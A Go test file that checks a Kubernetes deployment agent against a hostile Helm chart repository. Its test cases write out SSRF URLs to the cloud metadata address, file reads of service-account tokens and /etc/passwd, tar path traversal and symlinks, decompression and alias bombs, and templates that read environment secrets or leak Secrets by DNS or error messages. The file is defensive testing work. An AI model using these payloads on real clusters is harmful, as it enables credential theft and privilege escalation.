package attackers

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// chart is what a hostile repository tries, and what the agent has to answer the Runner who
// deploys from it.
type chart struct {
	name, tries string
	serve       http.HandlerFunc
	login       bool // the Runner names a Secret for the repository
	want        []string
	says        string // is in the answer
}

// TestHelmRelease_HostileRepository has an honest Runner, whom the policy lets install charts,
// deploy from a repository that means ill.
func TestHelmRelease_HostileRepository(t *testing.T) {
	setPolicy(t, repositories)
	enforceBaseline(t)
	c, repository, elsewhere := newCaller(t, honest), serve(t), serve(t)
	login(t, "chart-login", repository.URL)
	put := func(ctx context.Context, name, url string, login bool) answer {
		chart := map[string]any{"repository": url, "name": "guide"}
		if login {
			chart["credentialsSecret"] = "chart-login"
		}
		return c.call(ctx, http.MethodPut, "/v1/namespaces/production/releases/"+name, map[string]any{"chart": chart, "timeout": "10s"}, nil)
	}
	s := open(t, func() {
		for _, good := range []map[string]string{
			{"templates/a.yaml": configMap("a: b")},
			{"templates/a.yaml": configMap("a: " + strings.Repeat("b", 500<<10)), "b": incompressible(400 << 10)},
		} {
			got := put(t.Context(), "good", repository.add("good", archived(pack(good))), true)
			require.Less(t, got.status, 300, "%v", got)
			awaitRelease(t, "good")
		}
	})
	thief := elsewhere.add("thief", s.thief)
	attempts := slices.Concat(indexes(repository, thief), archives(), templates(), brought())
	var calls []attempt
	for i, k := range attempts {
		url := repository.add(k.name, k.serve)
		calls = append(calls, attempt{name: k.name, tries: k.tries, want: k.want, do: func(ctx context.Context, _ *caller) answer {
			return put(ctx, fmt.Sprintf("evil-%d", i), url, k.login)
		}, within: func(a answer) error {
			if !strings.Contains(string(a.body), k.says) {
				return fmt.Errorf("it does not say %q", k.says)
			}
			return nil
		}})
	}
	s.try(t, c, calls)
	url := repository.URL + "/an-error-of-control-characters"
	_, err := sys.Runner(t.Context(), honest, "helm", "deploy", agentName, "evil", "-n", production, "--repo", url, "--chart", "guide")
	require.ErrorContains(t, err, "does not render")
	assert.NoError(t, plain(err.Error()), "what the command line prints")
	s.close()
	got := put(t.Context(), "good", repository.URL+"/good", true)
	assert.Less(t, got.status, 300, "honest charts are deployed: %v", got)
}

// plain returns an error if a text holds characters that steer a terminal.
func plain(text string) error {
	for _, r := range text {
		if r < ' ' && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == '\u202e' {
			return fmt.Errorf("it holds the control character %U: %.400q", r, text)
		}
	}
	return nil
}

func awaitRelease(t *testing.T, name string) {
	t.Helper()
	out, err := sys.Runner(t.Context(), honest, "helm", "status", agentName, name, "-n", production)
	for err == nil && strings.Contains(out, "pending") {
		out, err = sys.Runner(t.Context(), honest, "helm", "status", agentName, name, "-n", production)
	}
	require.NoError(t, err, out)
}

// index is that of a repository with one chart, at a URL.
func index(url string) string {
	return "apiVersion: v1\nentries:\n  guide:\n  - version: 1.0.0\n    urls: [" + fmt.Sprintf("%q", url) + "]\n"
}

// archived is an honest repository with this archive.
func archived(data []byte) http.HandlerFunc {
	return files(map[string]http.HandlerFunc{"index.yaml": text(index("guide.tgz")), "guide.tgz": text(string(data))})
}

func indexed(body string) http.HandlerFunc {
	return files(map[string]http.HandlerFunc{"index.yaml": text(body)})
}

func at(url string) http.HandlerFunc { return indexed(index(url)) }

var (
	invalid  = []string{"422 invalid"}
	tooLarge = []string{"413 too_large"}
	either   = []string{"422 invalid", "413 too_large"}
	refused  = []string{"403 policy_denied", "403 forbidden"}
	unseen   = []string{"422 policy_denied", "422 forbidden"}
	lets     = append([]string{"200", "202"}, refused...) // the API server refuses its pods
)

func indexes(here *outside, thief string) []chart {
	entry := "entries:\n  guide:\n  - version: 1.0.0\n"
	only := func(h http.HandlerFunc) http.HandlerFunc { return files(map[string]http.HandlerFunc{"index.yaml": h}) }
	return []chart{
		{name: "an alias bomb", tries: "expand aliases in the agent", serve: indexed("entries:\n  guide:\n" + indent(aliasBomb(9))), want: either},
		{name: "an alias bomb in flow style", tries: "expand aliases in the agent", serve: indexed("{" + strings.ReplaceAll(aliasBomb(9), "\n", ", ") + "entries: {guide: []}}"), want: either},
		{name: "100 MiB of comments", tries: "fill the agent's memory", serve: only(stream(100<<20, "# a comment\n")), want: tooLarge},
		{name: "a line of 100 MiB", tries: "fill the agent's memory", serve: only(stream(100<<20, "a")), want: tooLarge},
		{name: "a chart of 100 MiB of versions", tries: "fill the agent's memory", serve: only(func(w http.ResponseWriter, r *http.Request) {
			_, _ = io.WriteString(w, "entries:\n  guide:\n")
			stream(100<<20, "  - version: 1.0.0\n")(w, r)
		}), want: tooLarge},
		{name: "4 MiB of versions", tries: "fill the agent's memory", serve: indexed("entries:\n  guide:\n" + strings.Repeat("  - version: 1.0.0\n", 200_000)), want: either},
		{name: "values in values", tries: "overflow a stack", serve: indexed(entry + "    urls: " + strings.Repeat("[", 100_000) + "\n"), want: invalid},
		{name: "a bomb in gzip", tries: "unpack to gigabytes", serve: only(zipped(1 << 30)), want: tooLarge},
		{name: "a header of 64 MiB", tries: "fill the agent's memory", serve: only(longHeader), want: invalid},
		{name: "a page of HTML", tries: "have it quoted", serve: only(text("<html>" + strings.Repeat("\x1b[2J", 100))), want: invalid},
		{name: "a version of control characters", tries: "write into a terminal", serve: indexed("entries:\n  guide:\n  - version: \"\\e[2J\\u202e\"\n    urls: [\"\\e[2Jguide.tgz\"]\n"), want: invalid},
		{name: "a file of the agent", tries: "read it by a URL", serve: at("file:///var/run/secrets/kubernetes.io/serviceaccount/token"), want: invalid},
		{name: "the metadata address", tries: "read the cloud's credentials", serve: at("http://169.254.169.254/latest/meta-data/"), want: invalid},
		{name: "the metadata address over https", tries: "read the cloud's credentials", serve: at("https://169.254.169.254/latest/meta-data/"), want: invalid, says: "link-local"},
		{name: "the metadata address as IPv6", tries: "read the cloud's credentials", serve: at("https://[::ffff:169.254.169.254]/latest/"), want: invalid, says: "link-local"},
		{name: "the metadata address as a number", tries: "read the cloud's credentials", serve: at("https://2852039166/latest/"), want: invalid},
		{name: "the agent itself", tries: "read its health port", serve: at("https://127.0.0.1:8080/metrics"), want: invalid, says: "loopback"},
		{name: "a name of the agent itself", tries: "read its health port", serve: at("https://localhost:8080/metrics"), want: invalid, says: "loopback"},
		{name: "the API server", tries: "use the agent's token", serve: at("https://kubernetes.default.svc/api/v1/secrets"), want: invalid},
		{name: "gopher", tries: "speak another protocol", serve: at("gopher://" + sys.HostIP() + ":6379/_x"), want: invalid},
		{name: "a URL that climbs", tries: "leave the login's scope", serve: at("../../thief.tgz"), login: true, want: invalid},
		{name: "a URL that climbs encoded", tries: "leave the login's scope", serve: at("%2e%2e/%2e%2e/thief.tgz"), login: true, want: invalid},
		{name: "a URL with a password", tries: "send another login", serve: at("http://user:password@" + sys.HostIP() + "/a.tgz"), want: invalid},
		{name: "an archive elsewhere", tries: "have the login sent elsewhere", serve: at(thief + "/guide.tgz"), login: true, want: invalid},
		{name: "a redirect elsewhere", tries: "have the login sent elsewhere", serve: moved(thief), login: true, want: invalid},
		{name: "a redirect of the archive elsewhere", tries: "have the login sent elsewhere", login: true, want: invalid, serve: files(map[string]http.HandlerFunc{
			"index.yaml": text(index("guide.tgz")), "guide.tgz": moved(thief),
		})},
		{name: "a redirect to the metadata address", tries: "read the cloud's credentials", serve: moved("https://169.254.169.254/"), want: invalid, says: "link-local"},
		{name: "a redirect to a file", tries: "read a file", serve: moved("file:///etc/passwd"), want: invalid},
		{name: "redirects without end", tries: "keep the agent busy", serve: moved(here.URL + "/redirects-without-end/index.yaml"), want: invalid},
		{name: "an endless drip", tries: "hold the agent's call", serve: drip("a"), want: []string{"504 timeout", "422 invalid"}},
	}
}

func indent(text string) string { return "    " + strings.ReplaceAll(text, "\n", "\n    ") }

// zipped is n bytes of nothing, in gzip.
func zipped(n int64) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		out := gzip.NewWriter(w)
		_, _ = io.Copy(out, endless(n, "\n")())
		_ = out.Close()
	}
}

func longHeader(w http.ResponseWriter, _ *http.Request) {
	conn, _, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\nX: ")
	_, _ = io.Copy(conn, endless(64<<20, "a")())
}

// packed writes an archive of these entries.
func packed(entries ...tar.Header) []byte {
	var out bytes.Buffer
	zipped := gzip.NewWriter(&out)
	w := tar.NewWriter(zipped)
	for _, h := range entries {
		body := h.PAXRecords["BODY.body"]
		h.PAXRecords = nil
		h.Mode, h.Size = 0o644, int64(len(body))
		if err := w.WriteHeader(&h); err != nil {
			panic(err) // of the table
		}
		_, _ = io.WriteString(w, body)
	}
	_ = w.Close()
	_ = zipped.Close()
	return out.Bytes()
}

func file(name, body string) tar.Header {
	return tar.Header{Name: name, Typeflag: tar.TypeReg, PAXRecords: map[string]string{"BODY.body": body}}
}

const metadata1 = "apiVersion: v2\nname: guide\nversion: 1.0.0\n"

// pack is a chart's archive.
func pack(of map[string]string) []byte {
	all := map[string]string{"Chart.yaml": metadata1}
	maps.Copy(all, of)
	var entries []tar.Header
	for _, name := range slices.Sorted(maps.Keys(all)) {
		entries = append(entries, file("guide/"+name, all[name]))
	}
	return packed(entries...)
}

// with is a repository whose chart has one file more.
func with(name, body string) http.HandlerFunc { return archived(pack(map[string]string{name: body})) }

// rendering is a repository whose chart has this template.
func rendering(template string) http.HandlerFunc { return with("templates/a.yaml", template) }

func configMap(data string) string {
	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: '{{ .Release.Name }}'}\ndata:\n  " + data + "\n"
}

// incompressible is text that gzip does not make much smaller.
func incompressible(n int) string {
	out, x := make([]byte, n), uint32(1)
	for i := range out {
		x = x*1664525 + 1013904223
		out[i] = ' ' + byte(x>>24)%90
	}
	return string(out)
}

func archives() []chart {
	chartFile := file("guide/Chart.yaml", metadata1)
	many := []tar.Header{chartFile}
	for i := range 6000 {
		many = append(many, file(fmt.Sprintf("guide/%d", i), ""))
	}
	nested := pack(nil)
	for range 40 {
		nested = pack(map[string]string{"charts/guide.tgz": string(nested)})
	}
	entries := func(more ...tar.Header) http.HandlerFunc {
		return archived(packed(append([]tar.Header{chartFile}, more...)...))
	}
	return []chart{
		{name: "an archive of 100 MiB", tries: "fill the agent's memory", want: tooLarge, serve: files(map[string]http.HandlerFunc{
			"index.yaml": text(index("guide.tgz")), "guide.tgz": stream(100<<20, "a"),
		})},
		{name: "a tar bomb", tries: "unpack to a gigabyte", want: tooLarge, serve: files(map[string]http.HandlerFunc{
			"index.yaml": text(index("guide.tgz")), "guide.tgz": func(w http.ResponseWriter, _ *http.Request) {
				// Members of 16 MiB: https://www.rfc-editor.org/rfc/rfc1952#section-2.2
				var member bytes.Buffer
				out := gzip.NewWriter(&member)
				_, _ = io.Copy(out, endless(16<<20, "\x00")())
				_ = out.Close()
				_, _ = w.Write(bytes.Repeat(member.Bytes(), 64))
			},
		})},
		{name: "a large file", tries: "unpack to 200 MiB", want: tooLarge, serve: entries(file("guide/a", strings.Repeat("a", 200<<20)))},
		{name: "thousands of files", tries: "fill the agent's memory", want: tooLarge, serve: archived(packed(many...))},
		{name: "a link", tries: "read a file of the agent", want: invalid, says: "is a link", serve: entries(tar.Header{Name: "guide/values.yaml", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"})},
		{name: "a hard link", tries: "read a file of the agent", want: invalid, says: "is a link", serve: entries(tar.Header{Name: "guide/values.yaml", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"})},
		{name: "a device", tries: "read memory", want: invalid, says: "is not a file", serve: entries(tar.Header{Name: "guide/values.yaml", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 1})},
		{name: "a path that climbs", tries: "write outside of a folder", want: invalid, says: "outside", serve: entries(file("guide/../../../tmp/a", "a"))},
		{name: "an absolute path", tries: "write outside of a folder", want: invalid, says: "outside", serve: entries(file("/etc/cron.d/a", "a"))},
		{name: "a path with backslashes", tries: "write outside of a folder", want: invalid, says: "outside", serve: entries(file(`guide\..\..\a`, "a"))},
		{name: "no chart", tries: "crash the reader", want: invalid, serve: archived(packed(file("guide/a", "")))},
		{name: "no archive", tries: "crash the reader", want: invalid, serve: archived([]byte("\x1f\x8b" + strings.Repeat("\xff", 1000)))},
		{name: "charts in charts", tries: "recurse without end", want: append([]string{"200", "202"}, either...), serve: archived(nested)},
		{name: "a dependency elsewhere", tries: "have it fetched from a file", want: invalid, serve: archived(pack(map[string]string{"Chart.yaml": metadata1 + "dependencies: [{name: a, version: '1', repository: 'file:///etc'}]\n"}))},
		{name: "a chart by a name that climbs", tries: "write outside of a folder", want: invalid, serve: archived(pack(map[string]string{"Chart.yaml": "apiVersion: v2\nname: ../../guide\nversion: 1.0.0\n"}))},
		{name: "values that are an alias bomb", tries: "expand aliases", want: either, serve: archived(pack(map[string]string{"values.yaml": aliasBomb(9), "templates/a.yaml": configMap("a: '{{ .Values.a8 }}'")}))},
		{name: "a schema elsewhere", tries: "have a schema fetched", want: invalid, serve: with("values.schema.json", `{"$ref":"http://169.254.169.254/schema.json"}`)},
		{name: "a schema in a file", tries: "read a file", want: invalid, serve: with("values.schema.json", `{"$ref":"file:///etc/passwd"}`)},
	}
}

func templates() []chart {
	fails := func(expression string) http.HandlerFunc {
		return rendering("{{ fail (printf \"out: %v\" (" + expression + ")) }}")
	}
	return []chart{
		{name: "a loop", tries: "take a core for ever", want: either, serve: rendering("{{ range $i := until 65000 }}{{ range $j := until 65000 }}{{ end }}{{ end }}")},
		{name: "a recursion", tries: "overflow a stack", want: either, serve: rendering("{{ define \"a\" }}{{ include \"a\" . }}{{ end }}{{ include \"a\" . }}")},
		{name: "a recursion by tpl", tries: "overflow a stack", want: either, serve: archived(pack(map[string]string{"values.yaml": "a: '{{ tpl .Values.a . }}'\n", "templates/a.yaml": "{{ tpl .Values.a . }}"}))},
		{name: "a large text", tries: "fill memory", want: either, serve: rendering("{{ $a := repeat 1000000 \"a\" }}{{ range until 1000 }}{{ $a = print $a $a }}{{ end }}")},
		{name: "100 MiB of output", tries: "fill the agent's memory", want: either, serve: rendering("{{ range until 100 }}# {{ repeat 1000000 \"a\" }}\n{{ end }}")},
		{name: "an alias bomb that is rendered", tries: "expand aliases in the agent", want: append([]string{"403 policy_denied"}, either...), serve: rendering(configMap("a: b") + aliasBomb(9))},
		{name: "an expression without end", tries: "take a core by a pattern", want: append([]string{"200", "202"}, either...), serve: rendering(configMap("a: {{ regexMatch \"(a*)*$\" (repeat 100000 \"a\") | quote }}"))},
		{name: "a name of the DNS", tries: "send data by the DNS", want: invalid, says: "out:", serve: fails("getHostByName \"secret.example.com\"")},
		{name: "the environment", tries: "read it", want: invalid, serve: fails("env \"AGENT_TOKEN\"")},
		{name: "the environment in a text", tries: "read it", want: invalid, serve: fails("expandenv \"$AGENT_TOKEN $HOME\"")},
		{name: "the agent's token by Files", tries: "read a file", want: invalid, says: "out:", serve: fails(".Files.Get \"/var/run/secrets/kubernetes.io/serviceaccount/token\"")},
		{name: "files by a pattern that climbs", tries: "read files", want: invalid, says: "out:", serve: fails(".Files.Glob \"../../../**\"")},
		{name: "a lookup of a Secret", tries: "read it by an error", want: unseen, serve: fails("lookup \"v1\" \"Secret\" \"production\" \"canary\"")},
		{name: "a lookup of all Secrets", tries: "read them by an error", want: unseen, serve: fails("lookup \"v1\" \"Secret\" \"\" \"\"")},
		{name: "a lookup of another team's Secret", tries: "read it by an error", want: unseen, serve: fails("lookup \"v1\" \"Secret\" \"payroll\" \"canary\"")},
		{name: "a lookup of the agent's Secret", tries: "read it by an error", want: unseen, serve: fails("lookup \"v1\" \"Secret\" \"pipeops\" \"pipeops-agent-identity\"")},
		{name: "a lookup of a ConfigMap elsewhere", tries: "read it by an error", want: unseen, serve: fails("lookup \"v1\" \"ConfigMap\" \"pipeops\" \"pipeops-policy\"")},
		{name: "a lookup that fails", tries: "have an error quote what was looked up", want: invalid, says: "withheld", serve: fails("(lookup \"v1\" \"ConfigMap\" \"production\" \"kube-root-ca.crt\").data")},
		{name: "an error of control characters", tries: "write into a terminal", want: invalid, serve: rendering("{{ fail \"\\x1b[2J\\u202e\\u009b\" }}")},
	}
}

// object is a template of one object.
func object(version, kind, more string) http.HandlerFunc {
	return rendering("apiVersion: " + version + "\nkind: " + kind + "\nmetadata: {name: bad" + more + "\n")
}

func brought() []chart {
	hook := ", annotations: {helm.sh/hook: pre-install}}"
	privileged := "containers: [{name: c, image: x, securityContext: {privileged: true}}]"
	return []chart{
		{name: "external IPs", tries: "take traffic to an address of others (CVE-2020-8554)", want: refused, serve: object("v1", "Service", "}\nspec: {ports: [{port: 80}], externalIPs: [192.0.2.1]}")},
		{name: "a binding to cluster-admin", tries: "be an administrator", want: refused, serve: object("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", "}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}")},
		{name: "a Secret", tries: "bring a kind that is not allowed", want: refused, serve: object("v1", "Secret", "}\nstringData: {a: b}")},
		{name: "a Secret as a hook", tries: "bring a kind that is not allowed", want: refused, serve: object("v1", "Secret", hook)},
		{name: "a Secret in a list", tries: "bring a kind that is not allowed", want: refused, serve: rendering("apiVersion: v1\nkind: List\nitems: [{apiVersion: v1, kind: Secret, metadata: {name: evil}}]\n")},
		{name: "an object of another team", tries: "write outside of its namespaces", want: refused, serve: object("v1", "ConfigMap", ", namespace: payroll}")},
		{name: "the policy", tries: "write its own policy", want: refused, serve: rendering("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: pipeops-policy, namespace: pipeops}\n")},
		{name: "a namespace", tries: "make one", want: refused, serve: object("v1", "Namespace", "}")},
		{name: "a definition", tries: "make a kind", want: refused, serve: with("crds/a.yaml", "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: evils.example.com}\n")},
		{name: "a privileged pod as a hook", tries: "make a privileged pod", want: lets, serve: object("v1", "Pod", hook+"\nspec: {"+privileged+"}")},
		{name: "a Job of the node's network", tries: "make a pod beyond the baseline", want: lets, serve: object("batch/v1", "Job", "}\nspec: {template: {spec: {restartPolicy: Never, hostNetwork: true, containers: [{name: c, image: x}]}}}")},
		{name: "a privileged Deployment", tries: "make a privileged pod", want: lets, serve: object("apps/v1", "Deployment", "}\nspec: {selector: {matchLabels: {a: b}}, template: {metadata: {labels: {a: b}}, spec: {"+privileged+"}}}")},
		{name: "AppArmor by annotation", tries: "loosen AppArmor", want: refused, serve: object("v1", "Pod", ", annotations: {container.apparmor.security.beta.kubernetes.io/c: unconfined}}\nspec: {containers: [{name: c, image: x}]}")},
		{name: "another kind the second time", tries: "pass the check, and then be another", want: lets, serve: rendering("apiVersion: v1\nkind: {{ if eq (randNumeric 1) \"1\" }}Secret{{ else }}ConfigMap{{ end }}\nmetadata: {name: evil-kind}\n")},
		{name: "an object of the agent", tries: "take it over", want: append([]string{"409 conflict"}, refused...), serve: rendering("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt}\ndata: {ca.crt: evil}\n")},
		{name: "thousands of objects", tries: "fill the cluster", want: append([]string{"413 too_large"}, refused...), serve: rendering("{{ range until 5000 }}\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: 'evil-{{ . }}'}\n{{ end }}")},
		{name: "notes of control characters", tries: "write into a terminal", want: []string{"200", "202", "422 invalid", "409 conflict"}, serve: archived(pack(map[string]string{"templates/NOTES.txt": "{{ print \"\\x1b[2J\\u202e\" }}", "templates/a.yaml": configMap("a: b")}))},
	}
}
